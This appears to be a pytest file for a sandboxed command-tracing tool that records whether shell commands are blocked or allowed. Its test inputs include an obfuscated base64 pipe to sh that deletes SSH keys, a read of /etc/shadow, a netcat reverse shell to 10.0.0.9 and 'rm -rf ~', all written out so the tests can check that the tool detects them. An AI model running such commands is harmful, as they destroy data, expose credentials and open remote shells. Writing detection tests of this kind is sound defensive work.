"""`securecli-eval trace`: one JSON record per command, in order; bad lines get a one-line error."""

from __future__ import annotations

import json
import os
import subprocess
import sys

import pytest

from securecli_eval.errors import DataError
from securecli_eval.sandbox.behaviour_cli import parse_command
from securecli_eval.sandbox.honeypot import honeypot_status

from ..conftest import PROJECT

AVAILABLE, REASON = honeypot_status()
FIELDS = {
    "command", "verdict", "rule", "mitre", "category", "reason", "reads", "writes", "deletes", "connects",
    "execs", "kernel", "missing", "processes", "exit_code", "timed_out", "counts",
}  # fmt: skip


def run_trace(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(PROJECT)}
    return subprocess.run(
        [sys.executable, "-m", "securecli_eval.cli", "trace", *args],
        input=stdin,
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )


@pytest.mark.skipif(not AVAILABLE, reason=REASON)
def test_commands_as_arguments_and_as_json_lines():
    result = run_trace("echo cm0gLXJmIH4vLnNzaAo= | base64 -d | sh", "wc -l notes.txt", "--workers", "2")
    assert result.returncode == 0, result.stderr
    first, second = (json.loads(line) for line in result.stdout.splitlines())
    assert set(first) == FIELDS
    assert (first["verdict"], first["rule"], first["mitre"]) == ("block", "BDEL003", "T1485")
    assert "rm -rf /root/.ssh" in first["execs"] and "/root/.ssh/id_rsa" in first["deletes"]
    assert (second["verdict"], second["exit_code"], second["timed_out"]) == ("allow", 0, False)
    lines = "\n".join(json.dumps({"command": c}) for c in ["cat /etc/shadow", "nc -e /bin/sh 10.0.0.9 4444"])
    result = run_trace(stdin=lines + "\n\n")
    shadow, netcat = (json.loads(line) for line in result.stdout.splitlines())
    assert (shadow["verdict"], shadow["reads"]) == ("block", ["/etc/shadow"])
    assert netcat["verdict"] == "not_observed" and netcat["missing"] == ["nc"]


@pytest.mark.skipif(not AVAILABLE, reason=REASON)
def test_a_bad_line_gets_its_error_in_place_and_the_rest_run():
    stdin = '{"command": "ls"}\nnot json\n{"cmd": "ls"}\n'
    result = run_trace(stdin=stdin)
    assert result.returncode == 1
    records = [json.loads(line) for line in result.stdout.splitlines()]
    assert [r["verdict"] for r in records] == ["allow", "not_observed", "not_observed"]
    assert records[1]["reason"].startswith("stdin:2: invalid JSON") and records[1]["command"] is None
    assert records[2]["reason"] == "stdin:3: expected an object with a 'command' string"
    assert result.stderr.count("\n") == 2 and "Traceback" not in result.stderr


@pytest.mark.parametrize(
    ("line", "message"),
    [
        (b"\xff\xfe", "stdin:4: not UTF-8 text"),
        ("[1]", "stdin:4: expected a JSON object, got list"),
        ('{"command": 3}', "stdin:4: expected an object with a 'command' string"),
    ],
)
def test_parse_errors_name_the_line(line, message):
    with pytest.raises(DataError, match=message):
        parse_command(line, 4)


@pytest.mark.parametrize(
    ("args", "message"), [(("--workers", "0"), "--workers"), (("--timeout", "0"), "--timeout")]
)
def test_bad_options_are_one_line_usage_errors(args, message):
    result = run_trace("ls", *args)
    assert result.returncode == 2 and message in result.stderr and "Traceback" not in result.stderr


def test_without_a_honeypot_every_verdict_is_not_observed_with_the_reason(monkeypatch, capsys):
    from argparse import Namespace

    from securecli_eval.sandbox import behaviour, behaviour_cli, honeypot

    monkeypatch.setattr(honeypot, "honeypot_status", lambda: (False, "honeypot unavailable: no strace here"))
    monkeypatch.setattr(behaviour, "honeypot_status", honeypot.honeypot_status)
    behaviour.behaviour.cache_clear()
    code = behaviour_cli.handle(Namespace(commands=["rm -rf ~"], workers=None, timeout=5.0))
    out, err = capsys.readouterr()
    record = json.loads(out)
    assert code == 0 and record["verdict"] == "not_observed" and "no strace here" in record["reason"]
    assert "every verdict is not_observed" in err
    behaviour.behaviour.cache_clear()
